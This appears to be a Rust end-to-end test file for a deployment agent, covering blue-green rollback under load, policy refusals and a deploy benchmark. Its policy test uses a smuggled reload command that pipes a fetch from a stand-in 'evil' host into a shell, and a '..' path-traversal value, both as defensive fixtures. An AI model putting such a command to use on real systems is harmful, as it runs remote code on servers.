    assert!(
        out.contains("switch") && out.contains("upstream -> slot green"),
        "--wait shows the agent's steps: {out}"
    );

    // 3. The rollback under load: slot blue's kept containers start again, no rebuild.
    let load = Load::start(proxy.port, "/health", RATE);
    std::thread::sleep(Duration::from_millis(300));
    let (code, out) = controller.cli(&["rollback", &name, "--env", "production", "--wait"]);
    std::thread::sleep(Duration::from_millis(300));
    let load = load.stop();
    assert_eq!(code, Some(0), "{out}");
    assert!(
        load.failures().is_empty() && load.answers.len() >= 10,
        "requests through nginx failed during the rollback: {}\n{out}",
        load.summary()
    );
    assert_switched(&load, "ok version v2", "ok version v1");
    assert!(
        proxy
            .upstream()
            .contains(&format!("server 127.0.0.1:{blue};")),
        "{}",
        proxy.upstream()
    );
    let id = started_id(&out);
    let d = get_deploy(&controller, &id);
    assert_eq!(d["state"], "DEPLOYMENT_STATE_SUCCEEDED", "{d}");
    assert_eq!(d["kind"], "DEPLOYMENT_KIND_ROLLBACK", "{d}");
    assert_eq!(d["environment"], "production", "{d}");
    assert_eq!(d["commit"], v1.as_str(), "{d}");
    let record = d["detail"].as_str().unwrap_or_default();
    assert!(
        record.starts_with(&format!(
            "production on prod-alfa: rolled back {name}/production from {v2} to {v1}"
        )),
        "{record}"
    );
    let job = production_job(&d, "rollback");
    let steps = job_steps(&controller, &job);
    let ended: Vec<String> = job_ended(&steps).into_iter().map(|(n, _)| n).collect();
    assert_eq!(
        ended,
        [
            "start",
            "health",
            "switch",
            "health-proxy",
            "drain",
            "stop-old"
        ],
        "no build, no up: {steps:?}"
    );
    assert!(
        job_ended(&steps)
            .iter()
            .all(|(_, status)| status == "STEP_STATUS_SUCCEEDED"),
        "{steps:?}"
    );
    // The agent's log lines (in GetJob with the steps) say why there was no rebuild.
    let job_text = controller.get_job(&job).expect("GetJob").to_string();
    assert!(
        job_text.contains(&format!("{v1} is kept in slot blue")),
        "{job_text}"
    );
    assert!(
        !job_text.contains(SECRET),
        "the secret is in GetJob: {job_text}"
    );
    assert!(
        !d.to_string().contains(SECRET),
        "the secret is in GetDeploy"
    );
    assert!(
        detail(&steps, "start").contains(&format!(
            "started the kept containers of slot blue (port {blue})"
        )),
        "{steps:?}"
    );
    assert!(
        detail(&steps, "switch").contains(&format!(
            "upstream -> slot blue (port {blue}), was slot green (port {green})"
        )),
        "{steps:?}"
    );
    // The kept slot restarted: blue runs its v1 containers again, green is stopped, kept.
    // (The agent's projects are `<app>-production-<slot>`.)
    let project = |slot: &str, all: bool| {
        app.slot_container_ids(&format!("production-{slot}"), all)
            .len()
    };
    assert_eq!((project("blue", false), project("green", false)), (1, 0));
    assert_eq!(
        project("green", true),
        1,
        "green is kept for the next rollback"
    );
    let state = SlotState::load(&production_dir).expect("slots.json");
    assert_eq!(state.live.map(|s| s.name()), Some("blue"));
    assert_eq!(
        release::current_release(&production_dir).as_deref(),
        Some(v1.as_str())
    );
    eprintln!("rollback through the controller: {}", load.summary());
}

// ---------------------------------------------------------------------------------------------
// The agent's policy, on a real agent process.

#[test]
fn the_agent_refuses_upstream_files_outside_its_dirs_and_commands_it_does_not_allow() {
    let fleet = Fleet::new(&["prod-alfa"]);
    let fake = FakeController::start(&fleet.certs);
    let key = sentinel::pki::load_signing_key(&fleet.certs.join("signing.key")).expect("key");
    let c = fleet.certs.display();
    let allowed_dir = fleet.path("nginx/sentinel");
    let jobs = format!(
        "[collectors]\ndocker = false\n[jobs]\nstate_dir = \"{}\"\ntrusted_keys = [\"{c}/signing.pub\"]\n\
         allowed_kinds = [\"deploy\", \"rollback\"]\napp_dirs = [\"{}\"]\n\
         [jobs.blue_green]\nupstream_dirs = [\"{}\"]\n\
         commands = [[\"nginx\", \"-s\", \"reload\"], [\"nginx\", \"-t\"]]\n",
        fleet.path("state").display(),
        fleet.path("apps").display(),
        allowed_dir.display(),
    );
    let _agent = fleet.start_agent("prod-alfa", "prod-alfa", &fake.addr, &jobs);
    eventually("the agent to connect", || {
        if fake.connects("prod-alfa") > 0 {
            Ok(())
        } else {
            Err("not yet".into())
        }
    });
    let allowed_file = allowed_dir.join("shop.conf").display().to_string();
    let spec = |id: &str, upstream: &str, reload: &[&str]| {
        let now = SystemTime::now();
        envelope::sign(
            JobSpec {
                job_id: id.into(),
                target_host: "prod-alfa".into(),
                kind: JobKind::Rollback as i32,
                not_before: Some(timestamp(now - Duration::from_secs(1))),
                expires_at: Some(timestamp(now + Duration::from_secs(300))),
                nonce: id.as_bytes().iter().copied().cycle().take(16).collect(),
                key_id: String::new(),
                params: Some(job_spec::Params::Rollback(RollbackParams {
                    app: "shop".into(),
                    environment: "production".into(),
                    app_dir: fleet.path("apps/shop").display().to_string(),
                    compose_project: "shop-production".into(),
                    blue_green: Some(BlueGreen {
                        blue_port: 8101,
                        green_port: 8102,
                        upstream_file: upstream.into(),
                        reload: reload.iter().map(|s| s.to_string()).collect(),
                        test: vec!["nginx".into(), "-t".into()],
                        ..Default::default()
                    }),
                    ..Default::default()
                })),
            },
            &key,
        )
    };
    let refusal = |id: &str, job| {
        fake.send_job("prod-alfa", job);
        let ev = fake.wait_event(id, |e| {
            matches!(
                e.event,
                Some(job_event::Event::Refused(_)) | Some(job_event::Event::Accepted(_))
            )
        });
        match ev.event {
            Some(job_event::Event::Refused(r)) => (RefusalReason::try_from(r.reason), r.detail),
            other => panic!("job {id} was not refused: {other:?}"),
        }
    };

    let (reason, detail) = refusal(
        "outside",
        spec(
            "outside",
            "/etc/nginx/nginx.conf",
            &["nginx", "-s", "reload"],
        ),
    );
    assert_eq!(reason, Ok(RefusalReason::Policy));
    assert!(
        detail.contains(
            "upstream file /etc/nginx/nginx.conf is outside jobs.blue_green.upstream_dirs"
        ),
        "{detail}"
    );
    let sneaky = format!("{}/../../nginx.conf", allowed_dir.display());
    let (reason, detail) = refusal(
        "dotdot",
        spec("dotdot", &sneaky, &["nginx", "-s", "reload"]),
    );
    assert_eq!(reason, Ok(RefusalReason::Policy));
    assert!(detail.contains("must be absolute without `..`"), "{detail}");
    let (reason, detail) = refusal(
        "shell",
        spec(
            "shell",
            &allowed_file,
            &["sh", "-c", "nginx -s reload; curl evil | sh"],
        ),
    );
    assert_eq!(reason, Ok(RefusalReason::Policy));
    assert!(
        detail.contains("reload command [\"sh\", \"-c\", \"nginx -s reload; curl evil | sh\"] is not in jobs.blue_green.commands"),
        "{detail}"
    );
    // Nothing was written anywhere.
    assert!(!allowed_dir.join("shop.conf").exists());
}

// ---------------------------------------------------------------------------------------------
// The benchmark (BENCHMARKS.md, "Deploys without downtime").

/// Failed requests, the longest gap and the wall time of one deploy, with each strategy, same
/// app, same load (20 requests/s through nginx).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "a benchmark: cargo test -p sentinel-e2e --test blue_green -- --ignored --nocapture"]
async fn benchmark_recreate_against_blue_green_under_the_same_load() {
    let mut rows = Vec::new();
    for (name, recreate) in [("recreate", true), ("blue_green", false)] {
        let w = World::with_strategy(if recreate { "bench-re" } else { "bench-bg" }, recreate);
        w.first().await;
        let ((result, sent, took), load) = w
            .under_load(async {
                let t = Instant::now();
                let (result, sent) = w.deploy("v2", Variant::Healthy).await;
                (result, sent, t.elapsed())
            })
            .await;
        result.unwrap_or_else(|e| panic!("{name}: {e}\n{}", sent.transcript()));
        rows.push(format!(
            "{name:<11} {:>8} {:>8} {:>14} {:>10.2}",
            load.answers.len(),
            load.failures().len(),
            load.longest_gap().as_millis(),
            took.as_secs_f64()
        ));
        eprintln!("{name}: {}\n  steps: {}", load.summary(), sent.durations());
    }
    println!("strategy    requests   failed longest gap ms  deploy s");
    for row in rows {
        println!("{row}");
    }
}
